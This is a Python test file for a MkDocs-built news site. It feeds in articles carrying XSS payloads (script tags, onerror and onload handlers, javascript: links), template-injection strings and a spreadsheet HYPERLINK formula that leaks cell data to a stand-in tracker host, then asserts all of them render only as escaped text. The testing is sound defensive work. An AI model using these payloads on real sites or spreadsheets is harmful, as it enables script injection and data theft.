"""Hostile article text shows literally on every page, and the site is the same bytes every build.

The story in tests/data/hostile/ (one article per input format) carries script tags, event
handlers, `javascript:` links, raw HTML, Markdown tables and headings, backticks, template syntax
(`{{ 7*7 }}`, `{% raw %}`, `${7*7}`) and spreadsheet formulas in its titles, outlets, bylines,
quotes and body, with numbers and dates that differ between articles so that quotes and
discrepancies are found. The built pages are read with html.parser: the payloads must be visible
text, never markup. The browser half of this check (nothing runs) is in test_browser.py; links in
test_links.py.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sites import HOSTILE, ROOT, build_into, built_site, html_pages, parse_page

# Each payload as the reader must see it, somewhere on the site (within one sentence: sentence
# numbers sit between sentences on the source pages).
LITERAL = {
    "script-in-quote": '<script>window.__pwned="quote";alert("quote")</script>',
    "img-onerror": "<img src=x onerror=\"window.__pwned='img';alert('img')\">",
    "markdown-js-link": "[petition](javascript:window.__pwned='md-link';alert('md-link'))",
    "markdown-image": "[chart](http://tracker.invalid/pixel.png)",  # pysbd ends a sentence at "!"
    "autolink": "<https://tracker.invalid/autolink>",
    "table-pipes": "| cost | $4.5 million | delay | 3 weeks |",
    "backticks": "`barrier-v2`",
    "jinja-expression": "{{ 7*7 }}",
    "jinja-raw": "{% raw %}",
    "jinja-variable": "{{ config.secret }}",
    "js-template": "${7*7}",
    "html-comment": "-- an HTML comment -->",  # pysbd ends a sentence at "<!"
    "closing-tags": "</table></div><style>body{display:none}</style>",
    "entity": "March 12, 2024 &amp; the engineer",
    "title-script": 'Flood Barrier <script>window.__pwned="title";alert("title")</script>',
    "title-img": "Rivertown flood: <img src=x onerror=\"window.__pwned='fm-title';alert(1)\">",
    "title-closes-h1": "</h1><script>window.__pwned='json-title'</script>",
    "outlet-script": "The Daily <script>window.__pwned='outlet'</script> Courier",
    "outlet-attribute": 'Gazette " onmouseover="window.__pwned=\'attr\'" x="',
    "byline-html": "Sam <i>Reyes</i>",
    "byline-svg": "Lee <svg onload=\"window.__pwned='svg'\">",
    "byline-backticks": "Ana `Code` Ruiz",
    "meta-tag-title": "barrier <img src=x onerror=\"window.__pwned='og';alert(1)\"> fails",
    "formula-title": '=HYPERLINK("http://tracker.invalid/?leak="&A1,"Rivertown barrier fails")',
}

# Live markup the payloads would produce if anything on the way (Jinja, Markdown, the theme, the
# search index) let them through, as it would appear in the page source.
LIVE = {
    "payload-script": re.compile(r"<script[^>]*>[^<]*__pwned", re.I),
    "payload-img": re.compile(r"<img[^>]+src=[\"']?x\b", re.I),
    "svg": re.compile(r"<svg[^>]*onload", re.I),
    "iframe": re.compile(r"<iframe", re.I),
    "payload-style": re.compile(r"<style[^>]*>\s*body\{display:none", re.I),
    "html-in-byline": re.compile(r"<i>Reyes</i>|<b>Bold</b>|<b>O'Hara</b>", re.I),
    "markdown-heading": re.compile(r"<h[1-6][^>]*>\s*Not a heading", re.I),
    "markdown-table": re.compile(r"<t[hd][^>]*>\s*(cost|delay)\s*</t[hd]>", re.I),
    "markdown-code": re.compile(r"<code>\s*barrier-v2\s*</code>", re.I),
    "markdown-link": re.compile(r"<a[^>]+href=[\"']?\s*javascript:", re.I),
    "markdown-image": re.compile(r"<img[^>]+tracker\.invalid", re.I),
    # a link to the payload's address (escaped text in a title attribute is not a link)
    "autolink": re.compile(r"<a\s[^>]*href=[\"']?[^\"'>\s]*tracker\.invalid", re.I),
}

# `{{ 7*7 }}` and `${7*7}` evaluated would read "49" next to the words around them.
EVALUATED = re.compile(r"(wrote|fails|heading|said|and) 49\b|\b49 homes|\$49\b")
# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    return built_site("hostile", HOSTILE, tmp_path_factory.getbasetemp())


@pytest.fixture(scope="module")
def pages(site) -> dict[str, str]:
    return {page.relative_to(site).as_posix(): page.read_text("utf-8") for page in html_pages(site)}


@pytest.fixture(scope="module")
def visible_text(site) -> str:
    return "\n".join(parse_page(page).visible_text for page in html_pages(site))


def test_hostile_metadata_reaches_the_report_unchanged(site):
    report = json.loads((site / "report.json").read_text("utf-8"))
    titles = {source["id"]: source["title"] for source in report["sources"]}
    assert titles["wire"] == LITERAL["title-script"] + " Fails in Rivertown"
    assert [source["id"] for source in report["sources"]] == [
        "agency", "daily", "gazette", "herald", "wire"
    ]  # fmt: skip


@pytest.mark.parametrize("payload", LITERAL.values(), ids=LITERAL.keys())
def test_payload_shows_as_text(payload, visible_text):
    assert payload in visible_text


@pytest.mark.parametrize("pattern", LIVE.values(), ids=LIVE.keys())
def test_payload_never_becomes_markup(pattern, pages):
    assert [path for path, html in pages.items() if pattern.search(html)] == []


def test_no_element_gets_an_event_handler_or_script_url(site):
    # Read with a parser: an escaped payload inside an attribute value (title="...onerror=...")
    # is text, and only the parser can tell it from a real attribute.
    found = []
    for page in html_pages(site):
        for tag, attrs in parse_page(page).tags:
            for name, value in attrs.items():
                url = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if name.startswith("on") or url.startswith(("javascript:", "vbscript:")):
                    found.append(f"{page.relative_to(site)}: <{tag} {name}={value[:40]!r}>")
    assert found == []


def test_template_syntax_is_never_evaluated(visible_text):
    assert EVALUATED.findall(visible_text) == []


def test_every_page_of_the_story_shows_its_title_escaped(site, pages):
    report = json.loads((site / "report.json").read_text("utf-8"))
    story_pages = ["index.html"] + [f"sources/{source['id']}.html" for source in report["sources"]]
    for path in story_pages:
        assert "&lt;" in pages[path], path


def test_page_titles_and_nav_carry_no_markup_characters(site):
    for page in html_pages(site):
        title = re.search(r"<title>(.*?)</title>", page.read_text("utf-8"), re.S)
        assert title is not None
        assert not set(title.group(1)) & set("<>{}`|"), page.name


def test_search_index_holds_the_payloads_escaped(site):
    index = json.loads((site / "search" / "search_index.json").read_text("utf-8"))
    text = "\n".join(doc["title"] + "\n" + doc["text"] for doc in index["docs"])
    assert "&lt;script&gt;window.__pwned" in text
    assert not LIVE["payload-script"].search(text)
    assert not LIVE["payload-img"].search(text)


def test_csv_downloads_cannot_run_as_spreadsheet_formulas(site):
    files = sorted(site.rglob("*.csv"))
    if not files:
        pytest.skip("this build has no CSV download yet")
    risky = [
        f"{path.name}: {cell!r}"
        for path in files
        for row in csv.reader(io.StringIO(path.read_text("utf-8")))
        for cell in row
        if cell.startswith(FORMULA_START) and not re.fullmatch(r"[-+]?\d[\d.,]*%?", cell)
    ]
    assert risky == []


@pytest.mark.parametrize("seeds", [ROOT / "seeds", HOSTILE], ids=["seeds", "hostile"])
def test_site_is_byte_identical_when_built_again_on_another_day(seeds, tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    first = build_into(seeds, tmp_path / "first")
    # MkDocs stamps pages with today's date: pretend the second build runs years later.
    monkeypatch.setattr("mkdocs.structure.pages.get_build_date", lambda: "2031-01-02")
    monkeypatch.setattr("mkdocs.utils.get_build_datetime", lambda: datetime(2031, 1, 2, tzinfo=UTC))
    second = build_into(seeds, tmp_path / "second")
    files = sorted(p.relative_to(first) for p in first.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(second) for p in second.rglob("*") if p.is_file())
    different = [str(f) for f in files if (first / f).read_bytes() != (second / f).read_bytes()]
    assert different == []


def test_sitemap_is_stamped_with_the_newest_article_date(site):
    with gzip.open(site / "sitemap.xml.gz") as handle:
        handle.read()
        stamp = datetime.fromtimestamp(handle.mtime, UTC).date().isoformat()  # type: ignore[attr-defined]
    assert stamp == "2024-03-06"
